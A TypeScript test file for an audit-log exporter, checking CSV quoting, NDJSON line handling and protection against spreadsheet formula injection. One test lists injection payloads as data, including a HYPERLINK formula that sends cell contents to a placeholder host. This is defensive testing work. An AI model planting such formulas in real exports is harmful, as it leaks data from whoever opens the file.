import { expect, test } from 'vitest';
import type { ExportedRecord } from '../../src/operations/audit-export.ts';
import { auditLine, csvColumns, exportTexts } from '../../src/rest/audit-lines.ts';

const record: ExportedRecord = {
  id: '7',
  ticketId: 3,
  sequence: 1,
  level: 'TICKET',
  kind: 'TICKET_REJECT',
  at: new Date('2025-08-22T10:00:00.007Z'),
  issuer: 'https://issuer.test',
  subject: 'subject-of-carol',
  username: 'carol',
  address: '192.0.2.1',
  ticketNo: 'a1b2c3d4',
  applicationName: null,
  operationId: null,
  cluster: null,
  namespace: null,
  message: 'rejected',
  data: { comment: null },
  previousHash: null,
  hash: 'abc',
};

async function* batches(records: ExportedRecord[]): AsyncGenerator<ExportedRecord[]> {
  for (const one of records) yield [one];
}
const csvOf = async (...changes: Partial<ExportedRecord>[]): Promise<string> =>
  (await Array.fromAsync(exportTexts.csv(batches(changes.map((change) => ({ ...record, ...change })))))).join('');

/** As RFC 4180 has it. */
function parseCsv(text: string): string[][] {
  const rows = text.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*)\r\n/gy);
  const parsed = [...rows].map(([, row]) =>
    [...row!.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain!,
    ),
  );
  return parsed;
}

test('CSV begins with its columns, which are those of a line', async () => {
  const text = await csvOf({});
  expect(parseCsv(text)).toHaveLength(2);
  expect(parseCsv(text)[0]).toEqual([...csvColumns]);
  expect([...csvColumns].toSorted()).toEqual(Object.keys(auditLine(record)).toSorted());
});

test('a record as CSV has every value in its column, and nothing for null', async () => {
  const [columns, values] = parseCsv(await csvOf({}));
  const line = auditLine(record);
  const expected = columns!.map((column) => {
    const value = line[column as keyof typeof line];
    if (value === null) return '';
    return value instanceof Date || typeof value !== 'object'
      ? JSON.parse(JSON.stringify(value))
      : JSON.stringify(value);
  });
  expect(values).toEqual(expected.map(String));
});

test.for(['a, b', 'say "no"', 'two\nlines', 'two\r\nlines', '"', ',', '', 'naïve 好 😀', "'=1+1", 'a=1', 'a\tb'])(
  'the text %j comes back from CSV as it is',
  async (message) => {
    const [columns, ...rows] = parseCsv(await csvOf({ message }, {}));
    expect(rows.map((row) => row[columns!.indexOf('message')])).toEqual([message, 'rejected']);
  },
);

test.for(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("http://x?"&A1,"go")', '=1,=2'])(
  'the text %j is no formula in a spreadsheet',
  async (message) => {
    const text = await csvOf({ message, username: message });
    const [columns, row] = parseCsv(text);
    for (const column of ['message', 'username']) expect(row![columns!.indexOf(column)]).toBe(`'${message}`);
    const fields = text.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    expect(fields.filter((field) => /^"?[=+\-@\t\r\n＝]/.test(field))).toEqual([]);
  },
);

test('a line of NDJSON is one line, whatever the record holds', async () => {
  const message = 'two\nlines\r\n\u2028';
  const text = (await Array.fromAsync(exportTexts.ndjson(batches([{ ...record, message }, record])))).join('');
  const lines = text.split('\n');
  expect(lines).toHaveLength(3);
  expect(JSON.parse(lines[0]!)).toMatchObject({ message, at: '2025-08-22T10:00:00.007Z', outcome: 'REFUSED' });
});
